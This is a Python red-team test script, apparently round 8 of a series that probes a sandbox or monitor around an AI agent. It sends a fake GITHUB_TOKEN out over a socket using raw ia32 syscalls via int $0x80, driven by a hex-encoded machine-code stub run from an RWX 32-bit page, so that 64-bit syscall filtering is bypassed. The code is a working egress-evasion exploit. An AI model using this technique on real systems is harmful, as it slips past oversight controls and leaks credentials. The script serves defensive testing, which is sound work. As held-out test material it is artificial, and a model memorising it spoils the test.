"""Round 8: socket, connect and write through the ia32 entry (int $0x80) from the 64-bit agent.

The ia32 syscall table has its own numbers (socket 359, connect 362, write
4); a 64-bit process may still enter it with ``int $0x80`` (pointers must be
below 4 GiB: the sockaddr and the secret sit in a MAP_32BIT page).  Round 3
and 4 used this entry for ptrace; this is egress through it, to a new
destination, with a 16-byte stub of machine code run from an RWX page.
"""

from __future__ import annotations

import ctypes
import mmap
import socket
import struct
from typing import Any

from redteam import rt

GAP = 1
MODE = "inject"
TARGET = "host"
HELD_OUT = True
ROUND = 8
EXPECT = ("L4",)
MAP_32BIT = 0x40
IA32_SOCKET, IA32_CONNECT, IA32_WRITE, IA32_CLOSE = 359, 362, 4, 6
# push rbx; mov rax,rdi; mov rbx,rsi; mov r8,rdx; mov rdx,rcx; mov rcx,r8; int 0x80; pop rbx;
# movsxd rax,eax; ret  -- f(nr, a, b, c) with ebx=a, ecx=b, edx=c
STUB = bytes.fromhex("534889f84889f34989d04889ca4c89c1cd805b4863c0c3")


def run(args: dict[str, Any]) -> None:
    ip, port = rt.loopback(args["dest"]["ip"]), int(args["dest"]["port"])
    lc = rt.libc()
    lc.mmap.restype = ctypes.c_void_p
    lc.mmap.argtypes = [
        ctypes.c_void_p,
        ctypes.c_size_t,
        ctypes.c_int,
        ctypes.c_int,
        ctypes.c_int,
        ctypes.c_long,
    ]
    flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT
    page = lc.mmap(None, 8192, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC, flags, -1, 0)
    if page in (None, ctypes.c_void_p(-1).value):
        rt.report(rt.now(), False, "no MAP_32BIT RWX page")
        return
    ctypes.memmove(page, STUB, len(STUB))
    int80 = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_long, ctypes.c_long, ctypes.c_long, ctypes.c_long)(page)
    sa = struct.pack("<H", socket.AF_INET) + struct.pack("!H4s8x", port, socket.inet_aton(ip))
    secret = b"GITHUB_TOKEN=ghp_h7redteamRound8int80entry\n" * 20
    data = page + 4096
    ctypes.memmove(data, sa, len(sa))
    ctypes.memmove(data + 64, secret, len(secret))
    t = rt.now()
    fd = int80(IA32_SOCKET, socket.AF_INET, socket.SOCK_STREAM, 0)
    rc = int80(IA32_CONNECT, fd, data, len(sa)) if fd >= 0 else fd
    n = int80(IA32_WRITE, fd, data + 64, len(secret)) if rc == 0 else rc
    if fd >= 0:
        int80(IA32_CLOSE, fd, 0, 0)
    lc.munmap(ctypes.c_void_p(page), ctypes.c_size_t(8192))
    rt.report(
        t, n == len(secret), f"ia32 socket fd {fd}, connect {ip}:{port} rc {rc}, write {n}/{len(secret)} B"
    )


if __name__ in ("__main__", "h7_injected"):
    rt.main(run, globals())
